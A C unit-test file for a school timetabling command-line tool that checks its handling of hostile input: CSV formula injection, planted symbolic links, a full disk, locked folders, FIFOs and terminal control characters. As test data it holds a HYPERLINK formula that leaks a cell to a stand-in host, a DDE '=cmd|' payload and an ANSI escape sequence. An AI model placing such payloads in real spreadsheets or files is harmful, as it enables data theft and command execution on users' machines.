/* test_hostile_cli.c - the command line against hostile data and hostile
 * folders (issue 14): names that are spreadsheet formulas, planted symbolic
 * links, an output name that is a folder, a full disk (a small tmpfs in a
 * private mount namespace), two runs into one folder, a path past PATH_MAX,
 * too little memory (ulimit -v), FIFOs and devices as inputs, an import
 * output that is a folder, control characters in quoted cells.  Each runs the
 * real binary (./paipian, from the repository root, as make test does). */
#define _GNU_SOURCE /* unshare, CLONE_NEWNS: the private mount namespace of the disk-full case */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "util.h"
#include "io/compare.h"
#include "io/files.h"
#include "io/import.h"
#include "io/outdir.h"
#include "io/school_write.h"
#include "io/school_xml.h"

#define TINY "instances/tiny.xml"

static char root[64]; /* this run's temporary folder */

/* ---- helpers -------------------------------------------------------------------------- */

/* Runs a shell command built like printf; its exit code, 128 + signal when
 * killed by one. */
static int run(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static int run(const char *fmt, ...)
{
    char cmd[8192];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(cmd, sizeof cmd, fmt, ap);
    va_end(ap);
    int st = system(cmd);
    return WIFEXITED(st) ? WEXITSTATUS(st) : WIFSIGNALED(st) ? 128 + WTERMSIG(st) : -1;
}

static char *path_in(const char *name)
{
    static char p[64][512]; /* a rotation: a test keeps at most a few dozen alive */
    static int k;
    k = (k + 1) % 64;
    snprintf(p[k], sizeof p[k], "%s/%s", root, name);
    return p[k];
}

static char *slurp_in(const char *name)
{
    return tu_slurp(path_in(name), NULL);
}

/* Replaces every a in s by b (a new string). */
static char *replace(const char *s, const char *a, const char *b)
{
    size_t la = strlen(a), lb = strlen(b), n = 0;
    for (const char *p = s; (p = strstr(p, a)) != NULL; p += la)
        n++;
    char *out = malloc(strlen(s) + n * lb + 1), *o = out;
    for (const char *p = s;;) {
        const char *q = strstr(p, a);
        if (!q) {
            memcpy(o, p, strlen(p) + 1);
            break;
        }
        memcpy(o, p, (size_t)(q - p));
        o += q - p;
        memcpy(o, b, lb);
        o += lb;
        p = q + la;
    }
    return out;
}

static void spit(const char *path, const char *text)
{
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    fputs(text, f);
    assert_int_equal(fclose(f), 0);
}

/* Every entry of dir (hidden ones too), sorted, joined by ' '; each file's
 * bytes appended after its name, so two listings are equal exactly when the
 * folder holds the same names with the same contents. */
static char *snapshot(const char *dir)
{
    DIR *dp = opendir(dir);
    if (!dp)
        return strdup("(missing)");
    char *names[128];
    int n = 0;
    for (struct dirent *e; (e = readdir(dp)) != NULL && n < 128;)
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
            names[n++] = strdup(e->d_name);
    closedir(dp);
    qsort(names, (size_t)n, sizeof *names, tu_cmp_str);
    char *out = NULL;
    size_t len = 0;
    FILE *m = open_memstream(&out, &len);
    for (int i = 0; i < n; i++) {
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", dir, names[i]);
        struct stat sb;
        lstat(p, &sb);
        fprintf(m, "[%s %o]", names[i], sb.st_mode & S_IFMT);
        if (S_ISREG(sb.st_mode)) {
            size_t k;
            char *b = tu_slurp(p, &k);
            if (b)
                fwrite(b, 1, k, m);
            free(b);
        }
        free(names[i]);
    }
    fclose(m);
    return out;
}

/* ---- CSV formula injection --------------------------------------------------------------- */

/* tiny.xml with a formula, or something a spreadsheet takes for one, as every
 * kind of name that reaches a CSV output. */
static char *hostile_school(void)
{
    char *t = tu_slurp(TINY, NULL);
    assert_non_null(t);
    static const char *const subs[][2] = {
        { "name=\"王小明\"", "name=\"=HYPERLINK(&quot;http://x/?leak=&quot;&amp;A1,&quot;点我&quot;)\"" },
        { "name=\"李小红\"", "name=\"+SUM(1,2)\"" },
        { "name=\"陈思远\"", "name=\"-2+3\"" },
        { "name=\"赵雨涵\"", "name=\"@cmd\"" },
        { "name=\"周浩然\"", "name=\"'=quoted\"" },
        { "name=\"吴欣怡\"", "name=\"&#9;=tab\"" },
        { "name=\"张老师\"", "name=\"=1+1\"" },
        { "name=\"王教练\"", "name=\"-coach\"" },
        { "name=\"足球\"", "name=\"=football\"" },
        { "name=\"三年级1班\"", "name=\"-class\"" },
        { "name=\"操场\"", "name=\"@field\"" },
        { "name=\"示例小学\"", "name=\"=school\"" },
        { "name=\"夏令时\"", "name=\"+summer\"" },
        { "name=\"课后服务\"", "name=\"=after\"" },
    };
    for (size_t i = 0; i < sizeof subs / sizeof *subs; i++) {
        char *n = replace(t, subs[i][0], subs[i][1]);
        assert_true(strcmp(n, t) != 0);
        free(t);
        t = n;
    }
    return t;
}

/* Calls each(field, ctx) for every field of the RFC 4180 text (BOM skipped). */
static void csv_fields(const char *text, void (*each)(const char *field, void *ctx), void *ctx)
{
    const char *p = text;
    if (!strncmp(p, "\xEF\xBB\xBF", 3))
        p += 3;
    char *f = malloc(strlen(p) + 1);
    while (*p) {
        size_t n = 0;
        if (*p == '"') {
            for (p++; *p && !(*p == '"' && p[1] != '"'); p++) {
                if (*p == '"')
                    p++;
                f[n++] = *p;
            }
            if (*p == '"')
                p++;
        } else
            while (*p && *p != ',' && *p != '\r' && *p != '\n')
                f[n++] = *p++;
        f[n] = '\0';
        each(f, ctx);
        if (*p == ',')
            p++;
        else
            while (*p == '\r' || *p == '\n')
                p++;
    }
    free(f);
}

typedef struct {
    int fields, formulas, numbers, guarded;
} csv_count;

static void count_field(const char *f, void *ctx)
{
    csv_count *c = ctx;
    c->fields++;
    const char *q = f + (f[0] == '-');
    int number = *q >= '0' && *q <= '9' && strspn(q, "0123456789.") == strlen(q);
    c->numbers += number;
    if (f[0] && strchr("=+-@\t\r", f[0]) && !number) /* a negative figure of ours is a number, not a formula */
        c->formulas++;
    if (f[0] == '\'')
        c->guarded++;
}

static csv_count count_csv(const char *text)
{
    csv_count c = { 0 };
    csv_fields(text, count_field, &c);
    return c;
}

static void cli_csv_outputs_never_begin_a_cell_with_a_formula(void **state)
{
    (void)state;
    char *school = hostile_school();
    spit(path_in("hostile.xml"), school);
    free(school);
    assert_int_equal(run("./paipian solve %s -o %s --quiet 2>/dev/null", path_in("hostile.xml"), path_in("h-out")), 0);
    static const char *const files[] = { "h-out/timetable.csv", "h-out/students.csv", "h-out/workload.csv" };
    for (size_t i = 0; i < 3; i++) {
        char *t = slurp_in(files[i]);
        assert_non_null(t);
        csv_count c = count_csv(t);
        print_message("%s: %d fields, %d guarded, %d numbers\n", files[i], c.fields, c.guarded, c.numbers);
        assert_true(c.fields > 20);
        assert_int_equal(c.formulas, 0);
        assert_true(c.guarded > 0);
        if (i != 1) /* students.csv holds no figure */
            assert_true(c.numbers > 0); /* figures stay numbers */
        free(t);
    }
    char *st = slurp_in("h-out/students.csv"), *wl = slurp_in("h-out/workload.csv"), *tt = slurp_in("h-out/timetable.csv");
    assert_non_null(strstr(st, "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"点我\"\")\""));
    assert_non_null(strstr(st, "''=quoted"));
    assert_non_null(strstr(st, "'\t=tab"));
    assert_non_null(strstr(st, "'+summer时间")); /* a season's name heads a column */
    assert_non_null(strstr(wl, ",'=1+1,"));
    assert_non_null(strstr(tt, "'=football"));
    assert_non_null(strstr(tt, "'@field"));
    free(st);
    free(wl);
    free(tt);
}

/* export-sheets protects the same cells, and import reads them back as the
 * names they were: the school round-trips unchanged. */
static void cli_exported_sheets_of_hostile_names_import_unchanged(void **state)
{
    (void)state;
    char *school = hostile_school();
    spit(path_in("hostile2.xml"), school);
    free(school);
    assert_int_equal(run("./paipian export-sheets %s -o %s > /dev/null", path_in("hostile2.xml"), path_in("h-sheets")), 0);
    char *stu = slurp_in("h-sheets/学生.csv");
    assert_non_null(strstr(stu, "'=HYPERLINK"));
    free(stu);
    pp_diags *d = pp_diags_new();
    pp_school *a = pp_xml_load_school(path_in("hostile2.xml"), d);
    pp_school *b = pp_import_path(path_in("h-sheets"), NULL, d);
    if (!a || !b)
        pp_diags_print(d, stderr);
    assert_non_null(a);
    assert_non_null(b);
    size_t na, nb;
    char *xa = pp_xml_write_school_memory(a, &na), *xb = pp_xml_write_school_memory(b, &nb);
    assert_string_equal(xa, xb);
    free(xa);
    free(xb);
    pp_school_free(a);
    pp_school_free(b);
    pp_diags_free(d);
}

static void comparison_csv_guards_school_and_scenario_names(void **state)
{
    (void)state;
    pp_pair_result r[1];
    memset(r, 0, sizeof r);
    pp_compare_copy(r[0].school_id, sizeof r[0].school_id, "s1");
    pp_compare_copy(r[0].school_name, sizeof r[0].school_name, "=cmd|'/c calc'!A1");
    pp_compare_copy(r[0].scenario_id, sizeof r[0].scenario_id, "x");
    pp_compare_copy(r[0].scenario_name, sizeof r[0].scenario_name, "@SUM(1)");
    pp_compare_copy(r[0].status, sizeof r[0].status, "optimal");
    pp_compare_copy(r[0].short_reason, sizeof r[0].short_reason, "-no staff");
    r[0].nmarginal = 1;
    pp_compare_copy(r[0].marginal[0].label, sizeof r[0].marginal[0].label, "+1 coach");
    r[0].marginal[0].gain = -0.5; /* a figure of ours: a number, negative or not */
    char *out = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&out, &len);
    assert_int_equal(pp_compare_csv(f, r, 1), 0);
    fclose(f);
    csv_count c = count_csv(out);
    assert_int_equal(c.formulas, 0);
    assert_non_null(strstr(out, ",'=cmd|'/c calc'!A1,"));
    assert_non_null(strstr(out, ",'@SUM(1),"));
    assert_non_null(strstr(out, ",'-no staff,"));
    assert_non_null(strstr(out, ",'+1 coach,-0.50,"));
    free(out);
}

/* ---- links, folders in the way, a full disk ------------------------------------------------ */

/* Links planted at every name a run ever used for a temporary, and at the
 * lock: the victim outside the folder is never written. */
static void cli_planted_links_never_redirect_a_write(void **state)
{
    (void)state;
    char *out = path_in("l-out"), *victim = path_in("victim");
    spit(victim, "precious");
    assert_int_equal(mkdir(out, 0755), 0);
    static const char *const names[] = { "timetable.xml", "timetable.html", "timetable.csv", "students.html", "students.csv",
                                         "workload.csv", "timetable.xlsx", "stats.txt" };
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char p[600];
        snprintf(p, sizeof p, "%s/.%s.tmp", out, names[i]);
        assert_int_equal(symlink(victim, p), 0);
    }
    assert_int_equal(run("./paipian solve " TINY " -o %s --quiet", out), 0);
    char *v = tu_slurp(victim, NULL);
    assert_string_equal(v, "precious");
    free(v);
    /* an output that is a link, and the folder itself a link: refused, exit 4 */
    char p[600];
    snprintf(p, sizeof p, "%s/stats.txt", out);
    assert_int_equal(unlink(p), 0);
    assert_int_equal(symlink(victim, p), 0);
    assert_int_equal(run("./paipian solve " TINY " -o %s --quiet 2> %s", out, path_in("l-err")), 4);
    char *err = slurp_in("l-err");
    assert_non_null(strstr(err, "stats.txt is a symbolic link; expected a regular file paipian may replace"));
    free(err);
    assert_int_equal(symlink(out, path_in("l-link")), 0);
    assert_int_equal(run("./paipian solve " TINY " -o %s/ --quiet 2> %s", path_in("l-link"), path_in("l-err")), 4);
    err = slurp_in("l-err");
    assert_non_null(strstr(err, "the output folder is a symbolic link"));
    free(err);
    v = tu_slurp(victim, NULL);
    assert_string_equal(v, "precious");
    free(v);
}

/* students.html a folder: the run stops before solving, exit 4, the folder
 * exactly as it was. */
static void cli_an_output_name_taken_by_a_folder_changes_nothing(void **state)
{
    (void)state;
    char *out = path_in("f-out");
    assert_int_equal(run("./paipian solve " TINY " -o %s --quiet", out), 0);
    assert_int_equal(run("rm %s/students.html && mkdir %s/students.html && touch %s/students.html/x", out, out, out), 0);
    char *before = snapshot(out);
    assert_int_equal(run("./paipian solve " TINY " -o %s --quiet 2> %s", out, path_in("f-err")), 4);
    char *after = snapshot(out), *err = slurp_in("f-err");
    assert_string_equal(before, after);
    assert_non_null(strstr(err, "students.html is a folder; expected a regular file"));
    free(before);
    free(after);
    free(err);
}

/* A full disk: a 320 KiB tmpfs in a private mount namespace (root only; skipped
 * where the namespace cannot be made), the folder holding a previous run, the
 * rest of the disk filled.  The run says "disk full", exits 4 and leaves the
 * folder byte for byte as it was, without a temporary. */
static int disk_full_child(const char *mnt, const char *err)
{
    if (unshare(CLONE_NEWNS) != 0 || mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
        mount("tmpfs", mnt, "tmpfs", 0, "size=320k") != 0)
        return 77;
    char out[600], filler[600];
    snprintf(out, sizeof out, "%s/out", mnt);
    snprintf(filler, sizeof filler, "%s/filler", mnt);
    if (run("./paipian solve " TINY " -o %s --quiet", out) != 0)
        return 10;
    int fd = open(filler, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    char block[4096] = { 0 };
    while (fd >= 0 && write(fd, block, sizeof block) > 0)
        ;
    if (fd < 0 || errno != ENOSPC)
        return 11;
    close(fd);
    char *before = snapshot(out);
    int rc = run("./paipian solve " TINY " -o %s --quiet 2> %s", out, err);
    char *after = snapshot(out);
    int same = strcmp(before, after) == 0;
    free(before);
    free(after);
    return rc != 4 ? 12 : !same ? 13 : 0;
}

static void cli_full_disk_says_so_and_leaves_the_folder_as_it_was(void **state)
{
    (void)state;
    char *mnt = path_in("tmpfs"), *err = path_in("d-err");
    assert_int_equal(mkdir(mnt, 0755), 0);
    fflush(NULL);
    pid_t pid = fork();
    assert_true(pid >= 0);
    if (pid == 0)
        _exit(disk_full_child(mnt, err));
    int st;
    assert_int_equal(waitpid(pid, &st, 0), pid);
    assert_true(WIFEXITED(st));
    if (WEXITSTATUS(st) == 77)
        skip(); /* no mount namespace here (not root, or no CAP_SYS_ADMIN) */
    assert_int_equal(WEXITSTATUS(st), 0);
    char *e = tu_slurp(err, NULL);
    assert_non_null(e);
    assert_non_null(strstr(e, "write failed: disk full (no space left on device)"));
    assert_non_null(strstr(e, "the outputs were not written; the folder is as it was before this run"));
    free(e);
}

/* ---- two runs into one folder ---------------------------------------------------------------- */

static void cli_second_run_into_a_locked_folder_is_refused(void **state)
{
    (void)state;
    char *out = path_in("k-out");
    assert_int_equal(mkdir(out, 0755), 0);
    char lock[600];
    snprintf(lock, sizeof lock, "%s/.paipian.lock", out);
    int fd = open(lock, O_RDWR | O_CREAT, 0644);
    assert_true(fd >= 0);
    assert_int_equal(flock(fd, LOCK_EX), 0);
    assert_true(write(fd, "4242\n", 5) == 5);
    assert_int_equal(run("./paipian solve " TINY " -o %s --quiet 2> %s", out, path_in("k-err")), 4);
    char *err = slurp_in("k-err");
    assert_non_null(strstr(err, "another paipian run (pid 4242) is writing into this folder"));
    free(err);
    /* a district comparison and a merge into that folder too (refused before any solve) */
    assert_int_equal(run("./paipian compare instances/district/manifest.xml -o %s --quiet 2> %s", out, path_in("k-err")), 4);
    err = slurp_in("k-err");
    assert_non_null(strstr(err, "another paipian run (pid 4242) is writing into this folder"));
    free(err);
    assert_int_equal(run("./paipian compare --merge %s 2>/dev/null", out), 4);
    close(fd);
    assert_int_equal(run("./paipian solve " TINY " -o %s --quiet", out), 0);
}

/* Two real runs: the first is held inside its (fake) Chromium, with its
 * outputs staged and the lock taken; the second, started then, is refused
 * naming the first's pid; the first then completes. */
static void cli_two_runs_into_one_folder_do_not_mix(void **state)
{
    (void)state;
    char *bin = path_in("bin"), *out = path_in("t-out"), *ready = path_in("t-ready"), *go = path_in("t-go");
    assert_int_equal(mkdir(bin, 0755), 0);
    char chromium[600];
    snprintf(chromium, sizeof chromium, "%s/chromium", bin);
    spit(chromium, "#!/bin/sh\n"
                   "for a in \"$@\"; do case \"$a\" in --print-to-pdf=*) out=\"${a#--print-to-pdf=}\";; esac; done\n"
                   ": > \"$PP_READY\"\n"
                   "while [ ! -e \"$PP_GO\" ]; do sleep 0.1; done\n"
                   "printf '%%PDF-1.4\\n%%%%EOF\\n' > \"$out\"\n");
    assert_int_equal(chmod(chromium, 0755), 0);
    fflush(NULL);
    pid_t first = fork();
    assert_true(first >= 0);
    if (first == 0) {
        char path[2048];
        snprintf(path, sizeof path, "%s:%s", bin, getenv("PATH") ? getenv("PATH") : "/usr/bin:/bin");
        setenv("PATH", path, 1);
        setenv("PP_READY", ready, 1);
        setenv("PP_GO", go, 1);
        execl("./paipian", "paipian", "solve", TINY, "-o", out, "--pdf", "--quiet", (char *)NULL);
        _exit(127);
    }
    struct stat sb;
    for (int i = 0; i < 6000 && stat(ready, &sb) != 0; i++) /* waits for the state, asserts no time */
        usleep(100000);
    assert_int_equal(stat(ready, &sb), 0);
    assert_int_equal(run("./paipian solve " TINY " -o %s --quiet 2> %s", out, path_in("t-err")), 4);
    char *err = slurp_in("t-err"), want[128];
    snprintf(want, sizeof want, "another paipian run (pid %ld) is writing into this folder", (long)first);
    assert_non_null(strstr(err, want));
    free(err);
    spit(go, "");
    int st;
    assert_int_equal(waitpid(first, &st, 0), first);
    assert_true(WIFEXITED(st));
    assert_int_equal(WEXITSTATUS(st), 0);
    char p[700];
    snprintf(p, sizeof p, "%s/timetable.pdf", out);
    assert_int_equal(stat(p, &sb), 0);
    assert_int_equal(run("test $(ls -A %s | wc -l) -eq 9", out), 0); /* the eight outputs and the PDF, nothing else */
}

/* ---- memory ------------------------------------------------------------------------------------ */

static void cli_path_over_path_max_is_a_usage_error(void **state)
{
    (void)state;
    char *p = malloc(5001);
    memset(p, 'a', 5000);
    for (int i = 200; i < 5000; i += 200)
        p[i] = '/';
    p[5000] = '\0';
    assert_int_equal(run("./paipian solve " TINY " -o /tmp/%s 2> %s", p, path_in("p-err")), 1);
    char *err = slurp_in("p-err");
    char want[128];
    snprintf(want, sizeof want, "the -o path is 5005 bytes long; expected at most %zu bytes", PP_PATH_MAX - PP_OUTDIR_ROOM);
    assert_non_null(strstr(err, want));
    free(err);
    assert_int_equal(run("./paipian export-sheets " TINY " -o /tmp/%s 2>/dev/null", p), 1);
    assert_int_equal(run("./paipian import tests/bad_sheets/base -o /tmp/%s/s.xml 2>/dev/null", p), 1);
    assert_int_equal(run("./paipian compare instances/district/manifest.xml -o /tmp/%s 2>/dev/null", p), 1);
    free(p);
}

/* Under ulimit -v of 50-62 MB on the 3,600-student school, running out of
 * memory (loading, in GLPK, anywhere) is exit 4 with "out of memory", never a
 * signal, never "invalid input".  Skipped under AddressSanitizer, which needs
 * far more address space than that. */
static void cli_out_of_memory_is_exit_4_with_a_message(void **state)
{
    (void)state;
#if defined(__SANITIZE_ADDRESS__)
    skip();
#else
    static const int mb[] = { 50, 56, 62 };
    int oom = 0;
    for (size_t i = 0; i < sizeof mb / sizeof *mb; i++) {
        char err[600], out[600];
        snprintf(err, sizeof err, "%s/m-err-%d", root, mb[i]);
        snprintf(out, sizeof out, "%s/m-out-%d", root, mb[i]);
        fflush(NULL);
        pid_t pid = fork();
        assert_true(pid >= 0);
        if (pid == 0) {
            struct rlimit rl = { (rlim_t)mb[i] << 20, (rlim_t)mb[i] << 20 };
            int fd = open(err, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd < 0 || dup2(fd, 2) < 0 || setrlimit(RLIMIT_AS, &rl) != 0)
                _exit(99);
            execl("./paipian", "paipian", "solve", "instances/bench/L.xml", "-o", out, "--time-limit", "5", "--quiet",
                  (char *)NULL);
            _exit(98);
        }
        int st;
        assert_int_equal(waitpid(pid, &st, 0), pid);
        char *e = tu_slurp(err, NULL);
        print_message("ulimit -v %d MB: %s %d: %.200s\n", mb[i], WIFEXITED(st) ? "exit" : "signal",
                      WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st), e ? e : "");
        assert_true(WIFEXITED(st));
        int code = WEXITSTATUS(st);
        assert_true(code == 0 || code == 3 || code == 4);
        if (code == 4) {
            assert_non_null(strstr(e, "out of memory"));
            oom++;
        }
        free(e);
    }
    assert_true(oom > 0); /* the limits are low enough to reach the out-of-memory path */
#endif
}

/* ---- special files --------------------------------------------------------------------------------- */

static void cli_fifos_and_devices_are_refused_up_front(void **state)
{
    (void)state;
    char *fifo = path_in("fifo"), *err = path_in("s-err");
    assert_int_equal(mkfifo(fifo, 0600), 0);
    /* `timeout` turns a hang into a failed assertion (exit 124) */
    assert_int_equal(run("timeout 60 ./paipian solve %s -o %s 2> %s", fifo, path_in("s-out"), err), 2);
    char *e = slurp_in("s-err");
    assert_non_null(strstr(e, "the file is a FIFO (named pipe), not a regular file; expected a readable school XML file"));
    free(e);
    assert_int_equal(run("timeout 60 ./paipian check " TINY " %s 2> %s", fifo, err), 2);
    assert_int_equal(run("timeout 60 ./paipian check " TINY " /dev/zero 2> %s", err), 2);
    e = slurp_in("s-err");
    assert_non_null(strstr(e, "/dev/zero: the file is a character device, not a regular file"));
    free(e);
    assert_int_equal(run("timeout 60 ./paipian import %s -o %s 2>/dev/null", fifo, path_in("s.xml")), 2);
    assert_int_equal(run("timeout 60 ./paipian import /dev/zero -o %s 2>/dev/null", path_in("s.xml")), 2);
    assert_int_equal(run("cp -r tests/bad_sheets/base %s && rm %s/学生.csv && mkfifo %s/学生.csv", path_in("s-sheets"),
                         path_in("s-sheets"), path_in("s-sheets")), 0);
    assert_int_equal(run("timeout 60 ./paipian import %s -o %s 2> %s", path_in("s-sheets"), path_in("s.xml"), err), 2);
    e = slurp_in("s-err");
    assert_non_null(strstr(e, "学生.csv: the file is a FIFO (named pipe)"));
    free(e);
    /* district: a FIFO manifest, a FIFO scenario, a FIFO school (a failed pair, never a hang) */
    assert_int_equal(run("timeout 60 ./paipian compare %s -o %s 2>/dev/null", fifo, path_in("s-cmp")), 2);
    char man[1024];
    snprintf(man, sizeof man,
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<district xmlns=\"urn:paipian:district:1\" name=\"t\">\n"
             "  <school file=\"%s\"/>\n  <school file=\"%s/" TINY "\"/>\n</district>\n",
             fifo, getcwd((char[512]){ 0 }, 512));
    spit(path_in("man.xml"), man);
    assert_int_equal(run("timeout 120 ./paipian compare %s -o %s --time-limit 2 --marginal 0 --quiet > /dev/null 2>&1",
                         path_in("man.xml"), path_in("s-cmp")), 3);
    char *csv = slurp_in("s-cmp/comparison.csv");
    assert_non_null(strstr(csv, "the file is a FIFO (named pipe), not a regular file"));
    free(csv);
    snprintf(man, sizeof man,
             "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<district xmlns=\"urn:paipian:district:1\" name=\"t\">\n"
             "  <school file=\"%s/" TINY "\"/>\n  <scenario file=\"%s\"/>\n</district>\n",
             getcwd((char[512]){ 0 }, 512), fifo);
    spit(path_in("man2.xml"), man);
    assert_int_equal(run("timeout 60 ./paipian compare %s -o %s --quiet 2> %s", path_in("man2.xml"), path_in("s-cmp2"), err), 2);
    e = slurp_in("s-err");
    assert_non_null(strstr(e, "FIFO"));
    free(e);
}

/* ---- import's output ---------------------------------------------------------------------------------- */

static void cli_import_into_a_folder_is_refused_and_leaves_nothing(void **state)
{
    (void)state;
    char *dir = path_in("i-dir");
    assert_int_equal(mkdir(dir, 0755), 0);
    assert_int_equal(run("./paipian import tests/bad_sheets/base -o %s/ 2> %s", dir, path_in("i-err")), 1);
    char *e = slurp_in("i-err");
    assert_non_null(strstr(e, "names a folder; expected the school file to write"));
    free(e);
    assert_int_equal(run("./paipian import tests/bad_sheets/base -o %s 2>/dev/null", dir), 1);
    char *l = snapshot(dir);
    assert_string_equal(l, "");
    free(l);
    assert_int_equal(run("./paipian import tests/bad_sheets/base -o %s/school.xml > /dev/null", dir), 0);
    l = snapshot(dir);
    assert_non_null(strstr(l, "[school.xml "));
    assert_null(strstr(l, ".tmp"));
    assert_null(strstr(l, ".paipian"));
    free(l);
}

/* ---- control characters in messages ---------------------------------------------------------------------- */

static void cli_messages_show_control_characters_escaped(void **state)
{
    (void)state;
    char *src = path_in("c-sheets");
    assert_int_equal(run("cp -r tests/bad_sheets/base %s", src), 0);
    char p[600];
    snprintf(p, sizeof p, "%s/学生.csv", src);
    char *t = tu_slurp(p, NULL);
    assert_non_null(t);
    char *first = strstr(t, "c3-1");
    assert_non_null(first);
    size_t head = (size_t)(first - t);
    char *n = malloc(strlen(t) + 64);
    memcpy(n, t, head);
    snprintf(n + head, strlen(t) + 64 - head, "c3-\x1b[2J\xe2\x80\xae" "evil%s", first + 4);
    spit(p, n);
    free(n);
    free(t);
    assert_int_equal(run("./paipian import %s -o %s 2> %s", src, path_in("c.xml"), path_in("c-err")), 2);
    char *e = slurp_in("c-err");
    assert_non_null(strstr(e, "class \"c3-\\x1b[2J\\u202eevil\" does not exist"));
    assert_null(strchr(e, '\x1b'));
    assert_null(strstr(e, "\xe2\x80\xae"));
    free(e);
}

static int setup(void **state)
{
    (void)state;
    snprintf(root, sizeof root, "/tmp/pp_hostile_XXXXXX");
    return mkdtemp(root) ? 0 : -1;
}

static int teardown(void **state)
{
    (void)state;
    return run("rm -rf %s", root) == 0 ? 0 : -1;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(cli_csv_outputs_never_begin_a_cell_with_a_formula),
        cmocka_unit_test(cli_exported_sheets_of_hostile_names_import_unchanged),
        cmocka_unit_test(comparison_csv_guards_school_and_scenario_names),
        cmocka_unit_test(cli_planted_links_never_redirect_a_write),
        cmocka_unit_test(cli_an_output_name_taken_by_a_folder_changes_nothing),
        cmocka_unit_test(cli_full_disk_says_so_and_leaves_the_folder_as_it_was),
        cmocka_unit_test(cli_second_run_into_a_locked_folder_is_refused),
        cmocka_unit_test(cli_two_runs_into_one_folder_do_not_mix),
        cmocka_unit_test(cli_path_over_path_max_is_a_usage_error),
        cmocka_unit_test(cli_out_of_memory_is_exit_4_with_a_message),
        cmocka_unit_test(cli_fifos_and_devices_are_refused_up_front),
        cmocka_unit_test(cli_import_into_a_folder_is_refused_and_leaves_nothing),
        cmocka_unit_test(cli_messages_show_control_characters_escaped),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
